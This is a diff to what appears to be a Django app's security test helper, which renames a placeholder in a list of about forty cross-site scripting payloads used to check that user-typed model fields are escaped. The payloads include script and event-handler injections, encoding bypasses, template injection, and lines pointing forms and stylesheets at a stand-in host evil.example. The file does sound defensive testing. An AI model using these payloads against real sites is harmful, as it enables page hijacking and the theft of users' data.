@@ -13,59 +13,63 @@ from django.db import models
 from catalog.models.fields import CodeField, CodesField, EdtfField, LinesField, PublicIdField
 
 TEMPLATES = (
-    "<script>pwned(#)</script>",
-    "<img src=x onerror=pwned(#)>",
-    '"><img src=x onerror=pwned(#)>',
-    "'><svg onload=pwned(#)>",
-    '" autofocus onfocus=pwned(#) x="',
-    "' onmouseover=pwned(#) x='",
-    "</title><script>pwned(#)</script>",
-    "</textarea><script>pwned(#)</script>",
-    "</script><script>pwned(#)</script>",
-    "--><script>pwned(#)</script><!--",
-    "<!--<script>pwned(#)//-->",
-    "]]><script>pwned(#)</script>",
-    "<svg><script>pwned(#)</script></svg>",
-    "<svg/onload=pwned(#)>",
-    "<math><a xlink:href=javascript:pwned(#)>x</a></math>",
-    "<iframe src=javascript:pwned(#)></iframe>",
-    "<iframe srcdoc='<script>parent.pwned(#)</script>'>",
-    "<object data=javascript:pwned(#)>",
-    "<embed src=javascript:pwned(#)>",
-    "<base href=//evil.example/>pwned(#)",
-    "<link rel=stylesheet href=//evil.example/#.css>pwned(#)",
-    "<style>@import '//evil.example/#.css'</style>pwned(#)",
-    "<meta http-equiv=refresh content='0;url=javascript:pwned(#)'>",
-    "<form action=//evil.example/><button>pwned(#)",
-    "<input autofocus onfocus=pwned(#)>",
-    "<details open ontoggle=pwned(#)>",
-    "<video><source onerror=pwned(#)></video>",
-    "<a href=javascript:pwned(#)>x</a>",
-    "<a href='java&#10;script:pwned(#)'>x</a>",
-    "javascript:pwned(#)",
-    "&lt;script&gt;pwned(#)&lt;/script&gt;",
-    "&#60;script&#62;pwned(#)&#60;/script&#62;",
-    "\\u003cscript\\u003epwned(#)\\u003c/script\\u003e",
-    "%3Cscript%3Epwned(#)%3C/script%3E",
-    "+ADw-script+AD4-pwned(#)+ADw-/script+AD4-",
-    "{{ pwned(#) }}{% pwned(#) %}${pwned(#)}",
-    "';pwned(#);//",
-    '"};pwned(#);{"',
-    "<ſcript>pwned(#)</ſcript>",
-    "<scr<script>ipt>pwned(#)</scr</script>ipt>",
+    "<script>pwned(@@)</script>",
+    "<img src=x onerror=pwned(@@)>",
+    '"><img src=x onerror=pwned(@@)>',
+    "'><svg onload=pwned(@@)>",
+    '" autofocus onfocus=pwned(@@) x="',
+    "' onmouseover=pwned(@@) x='",
+    "</title><script>pwned(@@)</script>",
+    "</textarea><script>pwned(@@)</script>",
+    "</script><script>pwned(@@)</script>",
+    "--><script>pwned(@@)</script><!--",
+    "<!--<script>pwned(@@)//-->",
+    "]]><script>pwned(@@)</script>",
+    "<svg><script>pwned(@@)</script></svg>",
+    "<svg/onload=pwned(@@)>",
+    "<math><a xlink:href=javascript:pwned(@@)>x</a></math>",
+    "<iframe src=javascript:pwned(@@)></iframe>",
+    "<iframe srcdoc='<script>parent.pwned(@@)</script>'>",
+    "<object data=javascript:pwned(@@)>",
+    "<embed src=javascript:pwned(@@)>",
+    "<base href=//evil.example/>pwned(@@)",
+    "<link rel=stylesheet href=//evil.example/@@.css>pwned(@@)",
+    "<style>@import '//evil.example/@@.css'</style>pwned(@@)",
+    "<meta http-equiv=refresh content='0;url=javascript:pwned(@@)'>",
+    "<form action=//evil.example/><button>pwned(@@)",
+    "<input autofocus onfocus=pwned(@@)>",
+    "<details open ontoggle=pwned(@@)>",
+    "<video><source onerror=pwned(@@)></video>",
+    "<a href=javascript:pwned(@@)>x</a>",
+    "<a href='java&#10;script:pwned(@@)'>x</a>",
+    "javascript:pwned(@@)",
+    "&lt;script&gt;pwned(@@)&lt;/script&gt;",
+    "&#60;script&#62;pwned(@@)&#60;/script&#62;",
+    "\\u003cscript\\u003epwned(@@)\\u003c/script\\u003e",
+    "%3Cscript%3Epwned(@@)%3C/script%3E",
+    "+ADw-script+AD4-pwned(@@)+ADw-/script+AD4-",
+    "{{ pwned(@@) }}{% pwned(@@) %}${pwned(@@)}",
+    "';pwned(@@);//",
+    '"};pwned(@@);{"',
+    "<ſcript>pwned(@@)</ſcript>",
+    "<scr<script>ipt>pwned(@@)</scr</script>ipt>",
 )
-PAYLOADS = tuple(template.replace("#", str(number)) for number, template in enumerate(TEMPLATES))
+PAYLOADS = tuple(template.replace("@@", str(number)) for number, template in enumerate(TEMPLATES))
 SHORTEST = min(map(len, PAYLOADS))
 CALL, TOKEN = re.compile(r"pwned\((\d+)\)"), re.compile(r"zf\d{3}z")
 TURNED = "\u202etxt"  # a name that runs backwards, and leaves it to others to end that
 
 
 # -- which fields, and what they get ----------------------------------------------------------------------------------
+# Set by the workflow, or of a form of its own.
+OWN = ("slug", "sent_back_reason", "code_hash", "password", "id", "session_key")
+
+
 def text_fields(model):
-    """The fields of a model that hold what somebody typed, and are long enough to harm."""
+    """The fields of a model that hold what somebody typed in its form, and are long enough to harm."""
     for field in model._meta.concrete_fields:
         coded = isinstance(field, CodeField | CodesField | PublicIdField | EdtfField) or field.choices
-        own = field.name in ("slug", "digest", "code_hash", "password", "id", "session_key") or "digest" in field.name
+        own = field.name in OWN or "digest" in field.name
         texts = isinstance(field, models.CharField | models.TextField) or (
             isinstance(field, LinesField) and not field.each
         )
